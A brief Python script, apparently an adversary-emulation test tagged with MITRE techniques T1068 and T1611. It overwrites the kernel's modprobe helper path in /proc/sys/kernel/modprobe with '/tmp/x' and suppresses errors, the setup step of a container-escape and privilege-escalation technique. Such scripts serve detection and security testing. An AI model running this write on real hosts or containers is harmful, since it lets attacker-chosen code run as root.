#!/usr/bin/env python3
# title: The kernel is to run another program when it needs a module
# technique: T1068 T1611
# needs: python3

import os
path = "/proc/sys/kernel/modprobe"
try:
    open(path, "w").write("/tmp/x\n")
except OSError:
    pass
